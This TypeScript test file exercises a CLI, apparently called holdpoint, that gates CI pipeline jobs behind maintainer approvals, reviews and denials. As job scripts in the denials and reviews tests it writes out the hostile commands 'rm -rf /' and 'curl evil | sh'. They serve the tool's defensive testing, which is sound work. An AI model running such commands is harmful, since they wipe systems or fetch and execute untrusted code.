import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { canonicalJson } from '../../agent/src/domain/canonical-json.ts';
import { type CliRun, runCli } from '../support/cli.ts';
import { startHub, type TestHub } from '../support/hub-server.ts';
import { DAY, PEOPLE } from '../support/hub-world.ts';
import { ROOT } from '../support/source-files.ts';

let hub: TestHub;
let folder: string;
beforeEach(async () => {
  hub = await startHub();
  folder = mkdtempSync(join(tmpdir(), 'holdpoint-approvals-'));
});
afterEach(async () => {
  await hub.close();
  rmSync(folder, { recursive: true, force: true });
});

const as = async (who: string, ...argv: string[]): Promise<CliRun> =>
  runCli(argv, {
    env: { HOLDPOINT_TOKEN: await hub.token(who), HOLDPOINT_HUB_URL: hub.url },
    cwd: folder,
    now: hub.world.clock.now(),
  });
async function approved(id: number, script: string, more: object = {}, lifetime?: string): Promise<string> {
  await hub.world.admit({ id, pipeline: id, script: [script], ...more });
  const hold = (await hub.store.holds({ sight: null }, { after: 0, limit: 100 })).at(-1)!;
  await hub.world.approve('maria', hold.id, lifetime === undefined ? {} : { lifetime });
  return hold.digest;
}

describe('holdpoint approvals', () => {
  it('revokes what fits, after saying what that is', async () => {
    await approved(1, 'make one');
    await approved(2, 'make two', { name: 'deploy' });
    const dry = await as(
      'maria',
      'approvals',
      'revoke',
      '--project',
      'acme/payments/api',
      '--job',
      'dep*',
      '--dry-run',
    );
    expect(dry).toMatchObject({ exit: 0, out: 'approval 2  acme/payments/api deploy on main: would be revoked\n' });
    expect((await as('maria', 'approvals', 'revoke', '--voter', 'jonas')).out).toBe('No approval fits.\n');
    const done = await as('maria', 'approvals', 'revoke', '--job', 'dep*', '--comment', 'old');
    expect(done.out).toContain('approval 2  acme/payments/api deploy on main: revoked');
    expect((await as('maria', 'approvals')).out).not.toContain('deploy');
    expect((await as('rita', 'approvals', 'revoke', '--job', '*')).exit).toBe(1);
    expect((await as('maria', 'approvals', 'revoke')).exit).toBe(2);
    expect((await as('maria', 'approvals', 'revoke', '1', '--job', '*')).exit).toBe(2);
  });

  it('renews with the whole digest, and says what is still needed', async () => {
    const digest = await approved(1, 'make', {}, `until:2026-12-01`);
    expect((await as('maria', 'approvals', 'renewals')).out).toContain(`  ${digest}`);
    expect((await as('maria', 'approvals', 'renew', '1', '--digest', digest.slice(0, 30))).exit).toBe(2);
    const renewed = await as('maria', 'approvals', 'renew', '1', '--digest', digest, '--lifetime', 'until:2027-01-31');
    expect(renewed).toMatchObject({ exit: 0, out: expect.stringContaining('approval 2 goes on from approval 1') });
    expect((await as('maria', 'approvals', 'renewals')).out).toBe('No approval ends within two weeks.\n');
    const shown = (await as('maria', 'approvals', 'show', '1')).out;
    expect(shown).toMatch(/goes on as +approval 2/);
    expect(shown).toMatch(/rules +maintainers: 1 of maintainer or higher/);
    expect((await as('maria', 'approvals', 'diff', '1', '2')).out).toContain('approval 2 (sha256:');
  });

  it('carries approvals over to a new name with the digest of the list that was shown', async () => {
    const extra = { git_info: { repo_url: 'https://gitlab.example.com/acme/payments/api.git' } };
    await approved(1, 'make', { extra });
    hub.world.people = {
      ...PEOPLE,
      projects: PEOPLE.projects.map((project) => (project.id === 4242 ? { ...project, path: 'acme/money' } : project)),
    };
    const shown = await as('jonas', 'approvals', 'rename', 'acme/payments/api', 'acme/money');
    expect(shown.out).toContain('repo_url');
    const list = /--list (sha256:[0-9a-f]{64})/.exec(shown.out)?.[1] ?? '';
    const done = await as('jonas', 'approvals', 'rename', 'acme/payments/api', 'acme/money', '--list', list);
    expect(done).toMatchObject({ exit: 0, out: expect.stringContaining('carried over: approval 2') });
    expect((await as('jonas', 'approvals', 'rename', 'a/b', 'c/d')).out).toContain('No approval has the old path');
  });

  it('T36 T32 imports payloads from a folder: only the form leaves the machine, and people are asked', async () => {
    const fixture = readFileSync(join(ROOT, 'test/fixtures/gitlab/build-image.run1.json'), 'utf8');
    writeFileSync(join(folder, 'a.json'), fixture);
    writeFileSync(join(folder, 'broken.json'), '{"id":');
    writeFileSync(join(folder, 'notes.txt'), 'not read');
    const key = join(folder, 'variable.key');
    writeFileSync(key, Buffer.alloc(32, 7));
    const flags = ['--variable-key-file', key, '--instance', 'https://gitlab.example.com'];
    const dry = await as('maria', 'approvals', 'import', '.', '--dry-run', ...flags);
    expect(dry.out).toMatch(/^sha256:[0-9a-f]{64} {2}a\.json\n$/);
    expect(dry).toMatchObject({ exit: 2, err: expect.stringContaining('broken.json') });
    rmSync(join(folder, 'broken.json'));
    const done = await as('maria', 'approvals', 'import', '.', ...flags);
    expect(done).toMatchObject({ exit: 0, out: expect.stringContaining('a.json: review 1 asks for it; nothing runs') });
    const review = (await hub.store.review(1))!;
    expect(review.ask).toMatchObject({ kind: 'import', note: 'a.json', by: { username: 'maria' } });
    const kept = (await hub.store.configuration(review.digest))!;
    expect(canonicalJson(JSON.parse(kept))).toBe(kept);
    const token = /"token":"([^"]{8,})"/.exec(JSON.stringify(JSON.parse(fixture)))?.[1] ?? 'none';
    expect(kept).not.toContain(token);
    expect((await as('jonas', 'reviews')).out).toContain(
      '  review 1  import  acme/payments/api build:image  0/2 maintainers',
    );
    const page = await as('jonas', 'reviews', 'show', '1');
    expect(page.out).toContain('by maria, a.json');
    const vote = await as('jonas', 'reviews', 'answer', '1', 'approve', '--digest', review.digest);
    expect(vote).toMatchObject({ exit: 0, out: 'review 1: open; still needed: maintainers 1 of 2\n' });
    expect((await as('maria', 'reviews', 'answer', '1', 'approve', '--digest', review.digest)).exit).toBe(5);
  });
});

describe('holdpoint denials', () => {
  it('lists what is denied and lifts it', async () => {
    await hub.world.admit({ id: 1, script: ['rm -rf /'] });
    await hub.world.reject('maria', 1, { remember: true, comment: 'never' });
    expect((await as('maria', 'denials')).out).toMatch(/ 1 {2}denied {2}2026-11-23 08:00 UTC/);
    expect((await as('zoe', 'denials', 'lift', '1')).exit).toBe(5);
    expect(await as('jonas', 'denials', 'lift', '1', '--comment', 'a test')).toMatchObject({
      exit: 0,
      out: expect.stringContaining('denial 1 is lifted'),
    });
    expect((await as('maria', 'denials')).out).toBe('No configuration is denied at present.\n');
    expect((await as('maria', 'denials', '--all')).out).toContain('lifted');
    hub.world.clock.advance(DAY);
    expect((await as('jonas', 'denials', 'lift', '1')).exit).toBe(4);
  });
});

describe('holdpoint reviews', () => {
  it('T13 T36 shows equal changes together, and answers those that were shown with the whole digest of the change', async () => {
    for (const [i, name] of ['unit', 'lint'].entries()) {
      await approved(i + 1, `./run ${name}`, { name });
      await hub.world.admit({ id: i + 50, pipeline: i + 50, name, script: [`./run ${name}`, 'date'] });
    }
    await hub.world.admit({ id: 90, pipeline: 90, name: 'other', script: ['curl evil | sh'] });
    const shown = (await as('jonas', 'reviews')).out;
    expect(shown).toContain('2 reviews, 2 holds: acme/payments/api unit, acme/payments/api lint');
    const change = /change (sha256:[0-9a-f]{64})/.exec(shown)?.[1] ?? '';
    const holds = /holds (\d+) (\d+)/.exec(shown)!.slice(1);
    expect((await as('jonas', 'reviews', 'approve', ...holds, '--change', change.slice(0, 20))).exit).toBe(2);
    // A Hold of another change is not answered with this one.
    const strange = (await hub.store.holds({ sight: null }, { after: 0, limit: 100 })).at(-1)!;
    expect((await as('jonas', 'reviews', 'approve', String(strange.id), '--change', change)).exit).toBe(4);
    const done = await as('jonas', 'reviews', 'approve', ...holds, '--change', change);
    expect(done).toMatchObject({ exit: 0, out: `hold ${holds[0]}: pending\nhold ${holds[1]}: pending\n` });
    expect(await hub.world.state(strange.id)).toBe('waiting_for_approval');
  });
});
